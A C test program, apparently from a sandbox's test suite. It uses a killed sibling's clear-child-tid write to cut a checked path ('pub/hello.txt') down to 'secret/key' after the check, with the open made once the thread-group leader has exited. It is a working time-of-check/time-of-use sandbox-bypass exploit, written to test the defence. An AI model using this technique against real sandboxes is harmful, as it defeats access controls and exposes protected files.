/* open_zombie_leader ROOT DELAY_MS [nosibling]: the killed-sibling path truncation of
 * open_killed_sibling.c, with the open made by an ordinary thread after the group leader
 * exited with SYS_exit (a zombie leader whose group lives on). /proc/TGID/fd of a zombie
 * leader lists nothing: the check after the open must read the thread's own table. (From
 * the second review of this round.) */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static volatile int armed, done;
static long delay_ms;
static char *path;
static char result[256];

static int sibling(void *slot) {
    syscall(SYS_set_tid_address, slot);
    struct sigevent sev;
    memset(&sev, 0, sizeof sev);
    sev.sigev_notify = SIGEV_THREAD_ID;
    sev.sigev_signo = SIGKILL;
    sev._sigev_un._tid = (pid_t)syscall(SYS_gettid);
    timer_t timer;
    if (syscall(SYS_timer_create, CLOCK_MONOTONIC, &sev, &timer) != 0)
        _exit(2);
    struct itimerspec its;
    memset(&its, 0, sizeof its);
    its.it_value.tv_sec = delay_ms / 1000;
    its.it_value.tv_nsec = (delay_ms % 1000) * 1000000L;
    if (syscall(SYS_timer_settime, timer, 0, &its, NULL) != 0)
        _exit(2);
    armed = 1;
    for (;;)
        pause();
}

static int opener(void *unused) {
    struct timespec ts = {0, 100000000};
    syscall(SYS_nanosleep, &ts, 0);   /* let the leader exit first */
    long fd = syscall(SYS_openat, AT_FDCWD, path, O_RDONLY, 0);
    if (fd < 0) {
        snprintf(result, sizeof result, "open failed\n");
    } else {
        char buf[64] = {0};
        long got = syscall(SYS_read, fd, buf, sizeof buf - 1);
        snprintf(result, sizeof result, "read %s", got > 0 ? buf : "(nothing)\n");
    }
    syscall(SYS_write, 1, result, strlen(result));
    syscall(SYS_exit_group, 0);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 3)
        return 2;
    if (strcmp(argv[argc - 1], "armed") != 0) {
        char *args[6] = {argv[0], argv[1], argv[2], argc > 3 ? argv[3] : "sibling", "armed",
                         NULL};
        execv("/proc/self/exe", args);
        return 2;
    }
    delay_ms = atol(argv[2]);
    char *area = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1,
                      0);
    if (area == MAP_FAILED)
        return 2;
    size_t prefix = strlen(argv[1]) + strlen("/secret/key");
    path = area + (4 - prefix % 4) % 4;
    snprintf(path, 4096, "%s/secret/keyXXXX/../../pub/hello.txt", argv[1]);
    char *xxxx = path + prefix;
    if (strcmp(argv[3], "nosibling") != 0) {
        char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
                           -1, 0);
        if (stack == MAP_FAILED || clone(sibling, stack + (1 << 16), CLONE_VM | SIGCHLD, xxxx) < 0)
            return 2;
        while (!armed)
            usleep(100);
    }
    char *tstack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
                        -1, 0);
    if (clone(opener, tstack + (1 << 16), CLONE_VM | CLONE_THREAD | CLONE_SIGHAND | CLONE_FILES | CLONE_FS, NULL) < 0) {
        printf("clone thread: %s\n", strerror(errno));
        return 2;
    }
    fflush(stdout);
    syscall(SYS_exit, 0);  /* the leader alone exits */
    return 0;
}
